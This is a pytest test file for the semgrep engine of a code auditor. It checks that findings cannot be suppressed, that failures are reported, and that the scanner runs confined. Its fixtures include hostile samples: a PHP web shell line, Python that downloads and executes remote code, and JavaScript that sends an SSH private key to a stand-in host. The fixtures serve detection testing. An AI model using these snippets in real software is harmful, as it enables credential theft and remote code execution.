"""semgrep as a program: confined, hardened against what a tree may hold, and honest when it fails."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from support.audited import write_tree

from skillkeep.auditor.audit import audit_tree
from skillkeep.auditor.collect import Collector
from skillkeep.auditor.engines.semgrep import SemgrepEngine, find_semgrep
from skillkeep.auditor.interface import AuditOptions, Severity
from skillkeep.auditor.rulebook import default_rulebook

needs_semgrep = pytest.mark.skipif(find_semgrep() is None, reason="semgrep is not installed")
BAD = "eval(ARGV[0])"


def run(engine: SemgrepEngine, root: Path, seconds: float = 120.0) -> Collector:
    collector = Collector(default_rulebook())
    engine.scan(root, AuditOptions(total_seconds=seconds), collector.bound("semgrep"))
    return collector


def program(folder: Path, body: str) -> Path:
    """A stand-in for the program itself: a script of our own that behaves badly."""
    path = folder / "bin" / "semgrep"
    path.parent.mkdir(parents=True)
    path.write_text(f"#!/bin/sh\n{body}\n")
    path.chmod(0o755)
    return path


@needs_semgrep
def test_nothing_in_the_tree_silences_it(tmp_path: Path) -> None:
    """One run: an ignore file, an inline comment, folders skipped by default, git's ignore list, and a large file."""
    files = {
        ".semgrepignore": "*\n",
        ".gitignore": "*\n",
        "ignored/.semgrepignore": "*\n",
        "ignored/a.rb": f"{BAD}\n",
        "inline.rb": f"{BAD} # nosemgrep\n# nosemgrep\n{BAD}\n",
        "tests/a.rb": f"{BAD}\n",
        "test/fixtures/a.rb": f"{BAD}\n",
        "node_modules/x/a.rb": f"{BAD}\n",
        "vendor/a.rb": f"{BAD}\n",
        "large.rb": f"{BAD}\n" + f"# {'x' * 2_000}\n" * 600,
        "x.min.rb": f"{BAD}\n",
        "sh.php": "<?php\n$x = $_GET['a'];\nsystem($x);\n",
        "take.py": "import requests\nr = requests.get('https://example.invalid/')\nexec(r.text)\n",
        "take.js": "const k = fs.readFileSync('/root/.ssh/id_rsa');\nfetch('https://example.invalid/', {body: k});\n",
        "main.go": 'package main\nimport "os/exec"\nfunc f(x string) { exec.Command("sh", "-c", x) }\n',
    }
    found = {
        (raw.finding.location.path, raw.finding.rule, raw.finding.location.line)
        for raw in run(SemgrepEngine(), write_tree(tmp_path, files)).raws
    }
    code = "semgrep-code-execution"
    assert found >= {
        ("ignored/a.rb", code, 1),
        ("inline.rb", code, 1),
        ("inline.rb", code, 3),
        ("tests/a.rb", code, 1),
        ("test/fixtures/a.rb", code, 1),
        ("node_modules/x/a.rb", code, 1),
        ("vendor/a.rb", code, 1),
        ("large.rb", code, 1),
        ("x.min.rb", code, 1),
        ("sh.php", "semgrep-shell-command", 3),
        ("main.go", "semgrep-shell-command", 3),
        ("take.py", "semgrep-download-execution", 3),
        ("take.js", "semgrep-secret-sent", 2),
    }
    assert not (tmp_path / ".semgrep").exists()


def test_where_it_is_not_installed_the_audit_says_so_and_goes_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("skillkeep.auditor.engines.semgrep.find_semgrep", lambda: None)
    options = AuditOptions(engines=frozenset({"python", "semgrep"}), bandit=False)
    report = audit_tree(write_tree(tmp_path, {"a.py": "print(1)\n"}), options)
    states = {item.name: (item.state, bool(item.reason)) for item in report.engines}
    assert states["semgrep"] == ("absent", True)
    assert report.findings == ()


def test_it_is_not_started_for_a_tree_without_its_languages(tmp_path: Path) -> None:
    tree = write_tree(tmp_path / "tree", {"SKILL.md": "# T\n", "data.json": "{}\n"})
    assert run(SemgrepEngine(program(tmp_path / "tool", "exit 7")), tree).raws == []


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ("exit 7", "exit code 7"),
        ("kill -9 $$", "exit code -9"),
        ("sleep 600", "out of time"),
        ("exit 0", "exit code 0"),
        ('for a; do case $a in --output=*) echo nonsense > "${a#--output=}";; esac; done', "exit code 0"),
        (
            (
                'for a; do case $a in --output=*) echo \'{"version": "0.9.0", "results": []}\''
                ' > "${a#--output=}";; esac; done'
            ),
            "too old",
        ),
    ],
)
def test_a_crash_a_time_out_or_an_old_version_is_a_warning(tmp_path: Path, body: str, said: str) -> None:
    tree = write_tree(tmp_path / "tree", {"a.rb": f"{BAD}\n"})
    collector = run(SemgrepEngine(program(tmp_path / "tool", body)), tree, seconds=5.0 if "sleep" in body else 60.0)
    (raw,) = collector.raws
    assert (raw.finding.rule, raw.finding.severity) == ("audit-incomplete", Severity.WARN)
    assert said in raw.finding.message


def test_it_cannot_write_to_the_tree_nor_reach_the_network(tmp_path: Path) -> None:
    tree = write_tree(tmp_path / "tree", {"a.rb": "1\n"})
    connect = "python3 -c 'import socket; socket.socket()' 2>/dev/null"
    body = f"echo x > {tree}/new; {connect} && echo x > {tree}/net; exit 9"
    subprocess.run([str(program(tmp_path / "free", body))], check=False)
    assert {path.name for path in tree.iterdir()} == {"a.rb", "new", "net"}  # the same script, unconfined
    (tree / "new").unlink()
    (tree / "net").unlink()
    (raw,) = run(SemgrepEngine(program(tmp_path / "tool", body)), tree, seconds=60.0).raws
    assert "exit code 9" in raw.finding.message
    assert {path.name for path in tree.iterdir()} == {"a.rb"}
